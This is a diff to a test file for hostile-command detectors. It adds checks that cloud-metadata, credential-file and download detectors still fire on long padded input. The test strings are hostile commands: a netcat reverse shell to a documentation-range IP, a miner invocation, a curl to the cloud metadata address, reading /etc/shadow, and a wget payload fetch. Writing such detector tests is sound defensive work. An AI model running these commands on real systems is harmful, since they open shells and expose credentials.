@@ -1,5 +1,8 @@
 import { strict as assert } from 'node:assert';
+import { metadataIn } from '../../../shared/detection/cloud-metadata.ts';
 import { actingText } from '../../../shared/detection/command.ts';
+import { credentialsIn } from '../../../shared/detection/credential-paths.ts';
+import { downloadIn } from '../../../shared/detection/download.ts';
 import { minerIn } from '../../../shared/detection/miner.ts';
 import { reverseShellIn } from '../../../shared/detection/reverse-shell.ts';
 
@@ -22,6 +25,12 @@ describe('hostile command lines', () => {
     '`',
     'x.',
     ';',
+    'curl ',
+    '-o',
+    'a.',
+    '/run/secrets/',
+    'a.pem',
+    '> ',
   ];
   const LONG = 60 * 1024;
 
@@ -31,6 +40,9 @@ describe('hostile command lines', () => {
       const padding = piece.repeat(Math.ceil(LONG / piece.length));
       assert.notEqual(minerIn(`${padding}\n./kworker --donate-level 1`), undefined);
       assert.notEqual(reverseShellIn(`${padding}\nnc -e /bin/sh 203.0.113.9 4444`), undefined);
+      assert.notEqual(metadataIn(`${padding}\ncurl 169.254.169.254/`), undefined);
+      assert.notEqual(credentialsIn(`${padding}\ncat /etc/shadow`), undefined);
+      assert.notEqual(downloadIn(`${padding}\nwget http://203.0.113.9/x`), undefined);
     });
   }
 
